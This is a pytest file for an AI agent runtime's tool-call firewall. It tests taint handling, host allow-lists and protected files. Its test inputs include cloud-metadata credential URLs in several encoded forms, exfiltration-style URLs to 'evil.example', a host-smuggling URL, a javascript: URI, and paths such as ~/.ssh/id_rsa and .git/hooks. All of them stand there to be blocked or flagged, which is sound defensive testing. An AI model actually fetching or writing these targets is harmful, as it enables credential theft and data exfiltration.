"""Taint, hosts and protected files: what a call would mean."""

from dataclasses import replace

import pytest

from brainpilot_rt.domain.tools import Effect
from brainpilot_rt.governance.inspections.requests import FirewallConfig, ToolRequest
from brainpilot_rt.governance.policy import ToolPolicy
from tests.unit.governance.calls import FETCH, SEND, foreign, inspected, ours


def tainted(request: ToolRequest) -> ToolRequest:
    return replace(request, tainted=True)


def reasons(request: ToolRequest, config: FirewallConfig | None = None) -> str:
    return "; ".join(inspected(request, config or FirewallConfig()).reasons)


@pytest.mark.fault("S15")
def test_a_tainted_run_asks_before_it_sends_even_where_a_policy_has_said_yes():
    free = ToolPolicy(tool_name=SEND, requires_approval=False)
    send = foreign(SEND, body="hello")
    assert inspected(send, FirewallConfig(), free).action == "pass"
    asked = inspected(tainted(send), FirewallConfig(), free)
    assert asked.action == "ask"
    assert asked.reasons[0].startswith(f"semantic_anomaly: {SEND} changes something outside")


@pytest.mark.fault("S14")
def test_a_tainted_run_asks_before_what_its_owner_names_and_works_on_files_by_itself():
    config = FirewallConfig(tainted_tools=("create_agent", "destroy_agent"))
    assert inspected(tainted(ours("create_agent", agent_type="x")), config).action == "ask"
    assert inspected(ours("create_agent", agent_type="x")).action == "pass"
    for call in (ours("write", path="a.md"), ours("read", Effect.PURE, path="a.md")):
        assert inspected(tainted(call)).action == "pass"


def test_the_owner_decides_what_taint_means():
    call = tainted(ours("create_agent", agent_type="x"))
    team = ("create_agent",)
    assert inspected(call, FirewallConfig(tainted_tools=team)).action == "ask"
    block = FirewallConfig(tainted_tools=team, on_tainted="block")
    assert inspected(call, block).action == "block"
    warn = FirewallConfig(tainted_tools=team, on_tainted="warn")
    assert inspected(call, warn).action == "warn"
    assert inspected(call, FirewallConfig()).action == "pass"


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data",
        "http://2852039166/",
        "http://0xa9fea9fe/",
        "http://[::ffff:169.254.169.254]/",
        "http://metadata.google.internal/x",
        "http://METADATA.google.internal./x",
        "http://[fe80::1%25eth0]/",
    ],
)
@pytest.mark.fault("S22")
def test_nobody_is_sent_for_the_credentials_of_a_machine(url: str):
    inspection = inspected(foreign(FETCH, read_only=True, url=url))
    assert inspection.action == "block"
    assert "credentials of a machine" in inspection.refusal


@pytest.mark.parametrize(
    "url",
    [
        *("http://localhost:8081/x", "http://127.0.0.1/", "http://2130706433/", "http://[::1]/"),
        *("http://10.0.0.8/", "http://192.168.1.1/", "http://printer.local/", "localhost:3000"),
    ],
)
def test_the_private_network_is_asked_for_unless_it_is_listed(url: str):
    call = foreign(FETCH, read_only=True, url=url)
    assert "private network" in reasons(call)
    allowed = ("localhost", "127.0.0.1", "2130706433", "::1", "10.*", "192.168.*", "*.local")
    assert inspected(call, FirewallConfig(allowed_hosts=allowed)).action == "pass"


@pytest.mark.parametrize("url", ["file:///etc/hosts", "javascript:alert(1)", "gopher://x.example"])
@pytest.mark.fault("S32")
def test_what_is_no_web_address_is_asked_for(url: str):
    assert inspected(foreign(FETCH, read_only=True, url=url)).action == "ask"


def test_a_list_of_hosts_is_kept_to():
    config = FirewallConfig(allowed_hosts=("*.example.org",))
    inside = foreign(FETCH, read_only=True, url="https://api.example.org/x")
    outside = foreign(FETCH, read_only=True, url="https://example.org.evil.example/x")
    hidden = foreign(FETCH, read_only=True, url="https://api.example.org@evil.example/x")
    assert inspected(inside, config).action == "pass"
    assert "which is not listed" in reasons(outside, config)
    assert "evil.example, which is not listed" in reasons(hidden, config)


def test_text_about_an_address_leads_nowhere():
    config = FirewallConfig(allowed_hosts=("*.example.org",))
    call = foreign(FETCH, read_only=True, body="see http://127.0.0.1/ and https://x.example/")
    assert inspected(call, config).action == "pass"


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/?d=" + "a" * 80,
        "https://evil.example/" + "QWxhZGRpbjpvcGVu" * 4,
        "https://" + "a1" * 25 + ".evil.example/",
        "https://user:pass@evil.example/",
    ],
)
def test_a_tainted_run_reads_pages_and_asks_before_an_address_carries_data(url: str):
    call = foreign(FETCH, read_only=True, url=url)
    assert inspected(call).action == "pass"
    assert "would carry data to" in reasons(tainted(call))
    page = foreign(FETCH, read_only=True, url="https://docs.example/guide/getting-started?p=2")
    assert inspected(tainted(page)).action == "pass"


@pytest.mark.parametrize(
    "path",
    [
        *(".git/hooks/pre-commit", "/workspace/.git/hooks/x", "sub/.git/config", "./.mcp.json"),
        *("a/../.git/hooks/x", ".GIT/hooks/x", "~/.ssh/id_rsa", ".ssh", "/etc/cron.d/x", ".bashrc"),
    ],
)
@pytest.mark.fault("S19")
def test_files_that_govern_are_asked_for_by_anyone_who_could_change_or_leak_them(path: str):
    assert "path is a protected file" in reasons(ours("write", path=path, content="x"))
    assert "protected file" in reasons(foreign(FETCH, read_only=True, path=path))
    assert "protected" not in reasons(ours("read", Effect.PURE, path=path))


@pytest.mark.parametrize("path", ["git/hooks.md", "docs/.mcp.json.md", "etc/x", "x.ssh/y", "a.git"])
def test_other_files_with_similar_names_are_not(path: str):
    assert inspected(ours("write", path=path, content="about .git/hooks/x")).action == "pass"
